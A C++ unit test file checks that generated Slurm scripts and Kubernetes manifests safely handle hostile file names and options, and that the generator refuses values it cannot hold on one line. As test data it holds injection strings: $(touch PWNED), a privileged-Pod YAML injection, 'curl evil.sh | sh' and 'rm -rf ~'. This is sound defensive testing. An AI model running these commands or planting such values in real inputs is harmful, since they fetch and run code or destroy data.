// The generated Slurm scripts and Kubernetes manifests rendered from hostile names (quotes, `$(...)`,
// `#`, `: `, leading spaces, non-ASCII) and parsed back: the YAML with yaml-cpp (the documents and
// values it holds), the shell with `bash -n` and by running the line that picks a task's trace.
// Names that no script can hold as one line (a newline, ESC) and partitions or times that no
// #SBATCH directive can hold are refused before anything is written.
#include "app/scale_scripts.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "core/io.h"
#include "core/script_text.h"
#include "core/test_support.h"

namespace goblin::app {
namespace {

namespace fs = std::filesystem;

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> out;
  size_t at = 0;
  while (at < text.size()) {
    size_t nl = text.find('\n', at);
    if (nl == std::string::npos) nl = text.size();
    out.push_back(text.substr(at, nl - at));
    at = nl + 1;
  }
  return out;
}

std::string slurp(const fs::path& p) {
  auto t = read_all(p.string());
  return t.ok() ? *t : std::string();
}

// One-line names a user's file system can hold and a shell or YAML would misread unquoted.
std::vector<std::string> hostile_names() {
  return {"rank0 $(touch PWNED) `id`.json", "rank1 'q' \"d\" \\ #c.json", "  rank2: - {x} [y] &a *a !t.json",
          "rank3 \xc3\xbcn\xc3\xaf ---.json"};
}

fs::path make_traces(const std::string& name, const std::vector<std::string>& names) {
  const fs::path d = goblin::testing::private_tmp_dir(name);
  fs::create_directories(d / "traces");
  for (const auto& n : names) std::ofstream(d / "traces" / n) << "{\"traceEvents\": []}";
  return d;
}

std::vector<std::string> paths_of(const fs::path& d, const std::vector<std::string>& names) {
  std::vector<std::string> p;
  for (const auto& n : names) p.push_back((d / "traces" / n).string());
  return p;
}

TEST(ScaleScripts, HostileNamesRenderAndParseBackInKubernetesManifests) {
  const auto names = hostile_names();
  const fs::path d = make_traces("k8s_hostile", names);
  ScaleScriptOptions o;
  o.out_dir = (d / "out").string();
  o.k8s = true;
  o.image = "reg.io/goblin:1\"\n  securityContext: {privileged: true}";  // a newline: refused below
  EXPECT_FALSE(write_scale_scripts(paths_of(d, names), o).ok());
  o.image = "reg.io/goblin:1\" # privileged: true";
  o.claim = "claim: {x}";
  o.mount = "/data 'm' #";
  o.rank_regex = "rank([0-9]+)";
  auto r = write_scale_scripts(paths_of(d, names), o);
  ASSERT_TRUE(r.ok()) << r.error().describe();
  ASSERT_EQ(r->traces.size(), names.size());

  const std::vector<YAML::Node> map = YAML::LoadAllFromFile((d / "out" / "summarize-job.yaml").string());
  ASSERT_EQ(map.size(), 2u) << "a name added or removed a YAML document";
  EXPECT_EQ(map[0]["kind"].as<std::string>(), "ConfigMap");
  EXPECT_EQ(map[0]["data"].size(), 1u);
  EXPECT_EQ(lines_of(map[0]["data"]["traces.txt"].as<std::string>()), r->traces);
  EXPECT_EQ(map[1]["kind"].as<std::string>(), "Job");
  const YAML::Node c = map[1]["spec"]["template"]["spec"]["containers"][0];
  EXPECT_EQ(c["image"].as<std::string>(), o.image);
  EXPECT_FALSE(c["securityContext"]);
  EXPECT_EQ(c["volumeMounts"][0]["mountPath"].as<std::string>(), o.mount);
  EXPECT_EQ(map[1]["spec"]["template"]["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"].as<std::string>(),
            o.claim);
  EXPECT_EQ(map[1]["spec"]["completions"].as<size_t>(), names.size());
  const std::vector<YAML::Node> reduce = YAML::LoadAllFromFile((d / "out" / "reduce-job.yaml").string());
  ASSERT_EQ(reduce.size(), 1u);
  EXPECT_EQ(reduce[0]["kind"].as<std::string>(), "Job");
  // The container's command is a shell line: it parses, and it names the mount quoted.
  const std::string cmd = c["args"][0].as<std::string>();
  EXPECT_EQ(goblin::testing::run_command("bash -n -c " + sh_word(cmd) + " 2>&1").code, 0) << cmd;
  EXPECT_EQ(goblin::testing::run_command("bash -n " + sh_word((d / "out" / "submit.sh").string())).code, 0);
  EXPECT_EQ(lines_of(slurp(d / "out" / "traces.txt")), r->traces);
}

TEST(ScaleScripts, HostileNamesRenderAndParseBackInSlurmScripts) {
  const auto names = hostile_names();
  const fs::path d = make_traces("slurm_hostile", names);
  ScaleScriptOptions o;
  o.out_dir = (d / "out").string();
  o.partition = "gpu,debug";
  o.time = "1-00:00:00";
  o.goblin = "/opt/my goblin/bin/goblin";
  o.rank_regex = "rank([0-9]+) '$";
  o.group_size = 2;
  auto r = write_scale_scripts(paths_of(d, names), o);
  ASSERT_TRUE(r.ok()) << r.error().describe();
  EXPECT_EQ(lines_of(slurp(d / "out" / "traces.txt")), r->traces);
  for (const char* f : {"summarize.sbatch", "group.sbatch", "reduce.sbatch", "submit.sh"}) {
    const fs::path p = d / "out" / f;
    EXPECT_EQ(goblin::testing::run_command("bash -n " + sh_word(p.string()) + " 2>&1").code, 0) << f;
    // Every directive is one word after #SBATCH, and the partition and time are the ones given.
    for (const std::string& line : lines_of(slurp(p))) {
      if (line.rfind("#SBATCH ", 0) != 0) continue;
      EXPECT_EQ(line.find(' ', 8), std::string::npos) << line;
      if (line.rfind("#SBATCH --partition=", 0) == 0) {
        EXPECT_EQ(line.substr(20), o.partition);
      }
      if (line.rfind("#SBATCH --time=", 0) == 0) {
        EXPECT_EQ(line.substr(15), o.time);
      }
    }
  }
  // The map task's own line picks task i's trace: run it for every index.
  std::string pick;
  for (const std::string& line : lines_of(slurp(d / "out" / "summarize.sbatch")))
    if (line.rfind("TRACE=", 0) == 0) pick = line;
  ASSERT_FALSE(pick.empty());
  for (size_t i = 0; i < r->traces.size(); ++i) {
    const auto got = goblin::testing::run_command(
        "bash -c " + sh_word(fmt::format("SLURM_ARRAY_TASK_ID={}; {}; printf %s \"$TRACE\"", i, pick)));
    EXPECT_EQ(got.out, r->traces[i]) << i;
  }
}

TEST(ScaleScripts, RefusesWhatNoScriptCanHoldAsOneLine) {
  // A name that closes the ConfigMap block and adds a privileged Pod; one with ESC.
  const std::vector<std::string> names = {
      "rank0.json\n---\napiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - securityContext: {privileged: true}",
      "rank1.json"};
  const fs::path d = make_traces("refuse", names);
  for (bool k8s : {true, false}) {
    ScaleScriptOptions o;
    o.out_dir = (d / (k8s ? "k8s" : "slurm")).string();
    o.k8s = k8s;
    auto r = write_scale_scripts(paths_of(d, names), o);
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().kind, ErrorKind::Usage);
    EXPECT_NE(r.error().message.find("control character"), std::string::npos) << r.error().message;
    EXPECT_FALSE(fs::exists(d / (k8s ? "k8s" : "slurm") / "traces.txt"));
  }
  const fs::path ok = make_traces("refuse_opts", {"rank0.json"});
  const std::vector<std::string> one = {(ok / "traces" / "rank0.json").string()};
  for (const auto& [partition, time] :
       std::vector<std::pair<std::string, std::string>>{{"gpu\ncurl evil.sh | sh", "00:30:00"},
                                                        {"gpu", "00:30:00\nrm -rf ~"},
                                                        {"gpu debug", "00:30:00"},
                                                        {"gpu", "1:00 #x"},
                                                        {"gpu%a", "00:30:00"}}) {
    ScaleScriptOptions o;
    o.out_dir = (ok / "out").string();
    o.partition = partition;
    o.time = time;
    auto r = write_scale_scripts(one, o);
    ASSERT_FALSE(r.ok()) << partition << " / " << time;
    EXPECT_NE(r.error().message.find("#SBATCH"), std::string::npos) << r.error().message;
    EXPECT_FALSE(fs::exists(ok / "out" / "summarize.sbatch"));
  }
  ScaleScriptOptions o;
  o.out_dir = (ok / "out").string();
  o.goblin = "goblin\x1b]0;x\x07";
  EXPECT_FALSE(write_scale_scripts(one, o).ok());
}

TEST(ScriptText, YamlScalarRoundTripsEveryByte) {
  std::string all;
  for (int c = 1; c < 0x80; ++c) all += static_cast<char>(c);
  all += "\xc2\x85\xc2\x9b \xe2\x80\xa8 end";
  const YAML::Node n = YAML::Load("v: " + yaml_scalar(all));
  EXPECT_EQ(n["v"].as<std::string>(), all);
  EXPECT_EQ(yaml_scalar(all).find('\n'), std::string::npos);
}

}  // namespace
}  // namespace goblin::app
